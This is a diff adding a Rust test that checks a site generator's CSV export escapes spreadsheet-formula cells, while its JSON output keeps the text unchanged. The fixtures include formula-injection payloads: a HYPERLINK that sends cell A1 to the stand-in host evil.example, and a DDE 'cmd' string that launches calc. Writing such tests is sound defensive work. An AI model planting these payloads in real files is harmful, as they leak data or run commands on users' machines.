@@ -122,3 +122,44 @@ fn projects_csv_has_a_row_per_project_as_a_nordic_spreadsheet_reads_it() {
         assert_eq!(row[col("tags")], tags.join("|"));
     }
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_are_text_and_the_json_keeps_them_exactly() {
+    let dir = common::copy_fixture("basic");
+    let file = dir.path().join("content/projects/matroboten.md");
+    let original = std::fs::read_to_string(&file).unwrap();
+    let hostile = original
+        .replace("title: Matroboten", "title: \"=HYPERLINK(\\\"https://evil.example/?x=\\\"&A1;\\\"Klik\\\")\"")
+        .replace(
+            "summary: En robot som skulle hjelpe beboere å spise selv.",
+            "summary: \"\\t=1+1\"\ntags: [\"@SUM(A1)\", ok]\npartners: [\"+47 cmd|' /C calc'!A0\", \"\\r-2+3\", \"  =cmd\", \"＝1+1\", \"a-b\"]",
+        );
+    assert_ne!(original, hostile);
+    std::fs::write(&file, hostile).unwrap();
+    let b = built(dir.path());
+    let projects: Vec<Value> = serde_json::from_str(text(&b, "data/projects.json")).unwrap();
+    let p = projects.iter().find(|p| p["slug"] == "matroboten").unwrap();
+    assert_eq!(p["title"], "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Klik\")", "the JSON keeps the text exactly");
+    assert_eq!(p["partners"][0], "+47 cmd|' /C calc'!A0");
+
+    let rows = csv_rows(text(&b, "data/projects.csv"));
+    let header = &rows[0];
+    let col = |name: &str| header.iter().position(|c| c == name).unwrap();
+    let row = rows.iter().find(|r| r[col("slug")] == "matroboten").unwrap();
+    // The front matter trims text, so the tab before `=1+1` is gone and `=` starts the cell.
+    assert_eq!(row[col("title")], "'=HYPERLINK(\"https://evil.example/?x=\"&A1;\"Klik\")");
+    assert_eq!(row[col("summary")], "'=1+1");
+    assert_eq!(row[col("tags")], "'@SUM(A1)|ok");
+    let partners: Vec<&str> = p["partners"].as_array().unwrap().iter().map(|t| t.as_str().unwrap()).collect();
+    assert_eq!(partners.len(), 5);
+    assert_eq!(row[col("partners")], format!("'{}", partners.join("|")), "a list's first item decides");
+    for (cell, name) in row.iter().zip(header) {
+        let start = cell.trim_start_matches([' ', '\t', '\r', '\n']);
+        assert!(
+            !start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !cell.starts_with(['\t', '\r']),
+            "the cell {name} would run as a formula: {cell:?}"
+        );
+    }
+    let page = text(&b, "data/index.html");
+    assert!(page.contains("apostrof"), "the open-data page says how formula-like text is written");
+}
